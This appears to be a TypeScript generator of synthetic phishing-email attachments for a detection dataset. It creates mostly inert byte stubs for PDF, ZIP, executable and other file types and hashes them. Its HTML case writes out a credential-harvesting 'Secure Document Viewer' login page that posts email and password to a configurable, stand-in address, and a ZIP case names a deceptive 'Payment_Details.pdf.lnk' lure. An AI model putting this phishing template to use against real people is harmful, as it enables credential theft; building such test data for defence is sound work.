import { createHash } from "node:crypto";
import { Rng } from "../prng";
import type { AttachmentDraft } from "./draft";
import type { AttachmentRecord } from "./record";

// Attachment bytes are small but shaped like their type (PDF header, ZIP local header, MZ stub, HTML
// form), and the md5/sha1/sha256 in /detections are the digests of exactly the bytes the raw EML carries.

function textBytes(text: string, rng: Rng, padTo: number): Buffer {
  const head = Buffer.from(text, "utf8");
  const pad = Math.max(0, padTo - head.length);
  return Buffer.concat([head, Buffer.from(rng.bytes(pad))]);
}

export function attachmentBytes(attachment: Pick<AttachmentDraft, "kind" | "name" | "target">, seed: number): Buffer {
  const rng = new Rng(seed);
  const size = rng.int(380, 1400);
  switch (attachment.kind) {
    case "pdf": {
      const body = `%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>\nendobj\n4 0 obj\n<< /Length 64 >>\nstream\nBT /F1 12 Tf 72 720 Td (${attachment.name.replace(/[()\\]/g, "")}) Tj ET\nendstream\nendobj\n`;
      return Buffer.concat([textBytes(body, rng, 0), Buffer.from(`xref\n0 5\ntrailer\n<< /Size 5 /Root 1 0 R /ID [<${rng.hex(32)}>] >>\n%%EOF\n`)]);
    }
    case "html": {
      const action = attachment.target ?? "https://example.invalid/";
      return Buffer.from(
        `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Secure Document Viewer</title></head>` +
          `<body style="font-family:Segoe UI,Arial"><div id="v"><h3>This document is protected</h3>` +
          `<p>Sign in with your work account to view ${attachment.name.replace(/[<>&"]/g, "")}.</p>` +
          `<form method="POST" action="${action}"><input name="login" type="email" placeholder="Email">` +
          `<input name="passwd" type="password" placeholder="Password"><button>View document</button></form></div>` +
          `<script>var t="${rng.base62(48)}";document.forms[0].login.value=atob(location.hash.slice(1));</script></body></html>\n`,
        "utf8",
      );
    }
    case "office":
    case "macro":
    case "zip": {
      const inner = attachment.kind === "zip" ? "Payment_Details.pdf.lnk" : attachment.kind === "macro" ? "xl/vbaProject.bin" : "[Content_Types].xml";
      return textBytes(`PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00${inner}`, rng, size);
    }
    case "iso":
      return Buffer.concat([Buffer.alloc(64), textBytes(`\x01CD001\x01\x00${"INVOICE".padEnd(32)}`, rng, size - 64)]);
    case "exe":
      return textBytes("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00This program cannot be run in DOS mode.\r\r\n$", rng, size);
    case "p7m":
      return Buffer.concat([Buffer.from([0x30, 0x82, 0x05, 0x2b, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x07, 0x03]), Buffer.from(rng.bytes(size))]);
    case "ics":
      return Buffer.from(
        `BEGIN:VCALENDAR\r\nPRODID:-//Google Inc//Google Calendar 70.9054//EN\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:${rng.base62(26)}@google.com\r\nSUMMARY:Weekly sync\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n`,
        "utf8",
      );
    case "image":
      return textBytes("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", rng, size);
  }
}

export function buildAttachment(draft: AttachmentDraft, contentSeed: number): AttachmentRecord {
  const bytes = attachmentBytes(draft, contentSeed);
  return {
    name: draft.name,
    contentType: draft.contentType,
    kind: draft.kind,
    detection: draft.detection,
    encrypted: draft.encrypted ?? false,
    target: draft.target ?? null,
    contentSeed,
    size: bytes.length,
    md5: createHash("md5").update(bytes).digest("hex"),
    sha1: createHash("sha1").update(bytes).digest("hex"),
    sha256: createHash("sha256").update(bytes).digest("hex"),
  };
}
